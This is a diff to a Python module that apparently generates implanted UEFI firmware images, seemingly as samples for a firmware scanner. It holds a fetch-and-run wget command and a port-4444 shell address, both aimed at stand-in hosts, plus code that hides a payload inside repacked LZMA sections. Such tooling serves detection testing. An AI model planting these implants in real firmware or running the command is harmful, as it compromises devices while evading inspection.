@@ -16,6 +16,7 @@ import numpy as np
 from mumetal.core.firmware import FirmwareImage
 from mumetal.scan.firmware import uefi, xilinx, xilinx_crc
 
+GUIDED, GUIDED_LONG = uefi.GUIDED, b"\xff\xff\xff" + bytes([uefi.GUIDED])  # kind of a section; of one of 16 MiB or more
 Implant = Callable[[bytes, FirmwareImage, Random], bytes | None]
 COMMAND = b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &\0"
 ADDRESS = b"203.0.113.9:4444\0"
@@ -213,17 +214,12 @@ def repacked(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
     """A patch inside a packed UEFI section, packed again to the same length."""
     if image.format != "uefi":
         return None
-    at = data.find(uefi.LZMA.bytes_le)
-    if at < 8:
+    found = next(
+        filter(None, (_packed(data, m.start()) for m in re.finditer(re.escape(uefi.LZMA.bytes_le), data))), None
+    )
+    if found is None:
         return None
-    start = at - 4
-    size = int.from_bytes(data[start : start + 3], "little")
-    if size == 0xFFFFFF:
-        start -= 4
-        (size,) = struct.unpack_from("<I", data, start + 4)
-    (offset,) = struct.unpack_from("<H", data, at + 16)
-    packed = data[start + offset : start + size]
-    plain = lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(packed)
+    begin, packed, plain = found
     where = chance.randrange(len(plain) // 4, len(plain) - 64)
     evil = place(plain, where, payload(plain, chance, 64))
     filters = [{"id": lzma.FILTER_LZMA1, "preset": 9, "dict_size": int.from_bytes(packed[1:5], "little")}]
@@ -231,7 +227,27 @@ def repacked(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
     again = again[:5] + packed[5:13] + again[13:]
     if len(again) > len(packed):
         return None
-    return place(data, start + offset, again.ljust(len(packed), b"\0"))
+    return place(data, begin, again.ljust(len(packed), b"\0"))
+
+
+def _packed(data: bytes, at: int) -> tuple[int, bytes, bytes] | None:
+    """Return (where, packed, plain) of the section whose GUID stands at ``at``; None when it is no section's.
+
+    The GUID also stands in the code that unpacks such sections. A section of 16 MiB or more has its length after 0xFFFFFF.
+    """
+    if data[at - 8 : at - 4] == GUIDED_LONG:
+        start, size = at - 8, int.from_bytes(data[at - 4 : at], "little")
+    elif at >= 4 and data[at - 1] == GUIDED:
+        start, size = at - 4, int.from_bytes(data[at - 4 : at - 1], "little")
+    else:
+        return None
+    begin = start + int.from_bytes(data[at + 16 : at + 18], "little")
+    packed = data[begin : start + size]
+    try:
+        plain = lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(packed)
+    except lzma.LZMAError:
+        return None
+    return (begin, packed, plain) if len(plain) > 1_024 else None
 
 
 KINDS: dict[str, Implant] = {
